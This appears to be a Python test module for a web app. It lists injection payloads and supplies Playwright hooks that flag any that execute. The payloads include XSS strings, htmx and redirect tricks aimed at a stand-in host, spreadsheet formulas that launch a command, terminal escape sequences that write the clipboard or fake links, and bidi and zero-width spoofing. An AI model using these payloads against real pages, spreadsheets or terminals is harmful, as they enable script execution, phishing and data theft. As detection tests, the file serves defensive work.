"""Texts that attack a page, a terminal, a spreadsheet or a reader, and what to look for in a page that shows them.

Every attempt to run something would call `attacked`, ask a server with ELSEWHERE in its name, or leave an element in
the page that no template of ours makes.
"""

from __future__ import annotations

ELSEWHERE = "elsewhere.invalid"
# What every attack that ran would have called.
CALL = "attacked()"
MARKUP = {
    "script": f"<script>{CALL}</script>",
    "handler": f'"><img src=x onerror="{CALL}">',
    "attribute": f'x" onmouseover="{CALL}" autofocus onfocus="{CALL}" y="',
    "apostrophe": f"x' onclick='{CALL}' y='",
    "vector": f"<svg onload={CALL}><a href='javascript:{CALL}'>t",
    "end of JSON": f"</script><script>{CALL}</script><!--<script>",
    "end of textarea": f"</textarea></title></style><img src=//{ELSEWHERE}/a>",
    "exchange": f'<b hx-get="//{ELSEWHERE}/b" hx-trigger="load" hx-on:load="{CALL}">x',
    "socket": f'<i hx-ext="ws" ws-connect="wss://{ELSEWHERE}/c">x',
    "base": f"<base href=//{ELSEWHERE}/><meta http-equiv=refresh content=0;//{ELSEWHERE}/d>",
    "style": f"<style>@import '//{ELSEWHERE}/e'</style><link rel=stylesheet href=//{ELSEWHERE}/f>",
    "form": f"<form action=//{ELSEWHERE}/g><button>Go on</button><input name=p>",
    "frame": f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    "template": "{{ request.user }}{% debug %}{{ 7|add:7 }}${7*7}",
    "address": f"javascript:{CALL}//https://{ELSEWHERE}/",
    "data": f"data:text/html,<script>{CALL}</script>",
}
# What makes a spreadsheet compute or ask a server.
FORMULAS = (
    f'=HYPERLINK("http://{ELSEWHERE}/h","x")',
    f'+WEBSERVICE("http://{ELSEWHERE}/i")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)
# What shows another text than is there: directions, letters of no width, lines of their own. As a part of a pattern.
HIDDEN = "\\u202a-\\u202e\\u2066-\\u2069\\u200e\\u200f\\u061c\\u200b\\u2060\\ufeff\\u2028\\u2029"
HIDING = {"reversed": "train-\u202egnp.exe", "no width": "ad\u200bmin\ufeff", "isolated": "a\u2067b\u2066c"}
TERMINAL = (
    b"\x1b]0;title of another\x07",
    b"\x1b]8;;javascript:attacked()\x1b\\your bank\x1b]8;;\x1b\\",
    b"\x1b]52;c;c3RvbGVu\x07",
    b"\x1bP$qm\x1b\\\x1b[c\x1b[6n",
    b"\x1b[38;5;" + b"9" * 3000 + b"m",
    b"\x9b31m\x9d52;c;Zm9v\x9c",
    b"\x1b[2J\x1b[1;1H\x1b[?1049h",
)
LINES = (*(text.encode() for text in (*MARKUP.values(), *HIDING.values())), *TERMINAL)

# Run before every page: it notes what an attack does, and what the policy of the page stops.
WATCH = """() => {
  window.attacks = [];
  window.attacked = () => window.attacks.push("something ran");
  document.addEventListener("securitypolicyviolation", (event) =>
    window.attacks.push(`policy: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
}"""

# What no template of ours makes. Texts that are hidden count where somebody reads them: in the text of the page.
LOOK = """(hidden) => {
  const found = [...window.attacks];
  for (const node of document.querySelectorAll("*")) {
    for (const { name, value } of node.attributes) {
      if (/^on|^hx-on|srcdoc/.test(name)) found.push(`${node.localName} ${name}`);
      if (/^(href|src|action|formaction|hx-(get|post)|ws-connect)$/.test(name)) {
        const address = new URL(value, location.href);
        const ours = address.host === location.host && /^(http|ws)s?:$/.test(address.protocol);
        const plain = node.localName === "a" && node.rel.includes("noopener") && /^https?:$/.test(address.protocol);
        if (!ours && !plain && !value.startsWith("blob:")) found.push(`${node.localName} ${name} ${value}`);
      }
    }
    if (/^(iframe|base|object|embed|style)$/.test(node.localName)) found.push(node.localName);
    if (node.localName === "img" || node.matches("meta[http-equiv]")) found.push(node.outerHTML);
    if (node.localName === "script" && !node.src && node.type !== "application/json") found.push(node.outerHTML);
  }
  const letters = new RegExp(`[${hidden}]`);
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const { data, parentElement } = walker.currentNode;
    if (letters.test(data) && !parentElement.closest("script, textarea")) {
      found.push(`hidden letters in ${parentElement.outerHTML.slice(0, 120)}`);
    }
  }
  return found;
}"""


def watched(page, own):
    """Note what a page does that it must not. `own`: the address of our server. Returns the list of what it did."""
    did = []
    page.add_init_script(f"({WATCH})()")
    page.on("dialog", lambda dialog: (did.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
    page.on(
        "request", lambda asked: None if is_ours(asked.url, own) else did.append(f"a request: {asked.url}")
    )
    page.on("popup", lambda other: did.append(f"a window: {other.url}"))
    page.on(
        "console",
        lambda said: did.append(said.text) if "Content Security Policy" in said.text else None,
    )
    return did


def is_ours(address, own):
    return address.startswith((own, own.replace("http", "ws", 1), "data:", "blob:"))


def look(page):
    """What the page has that no template of ours makes, and what ran in it."""
    return page.evaluate(LOOK, HIDDEN)
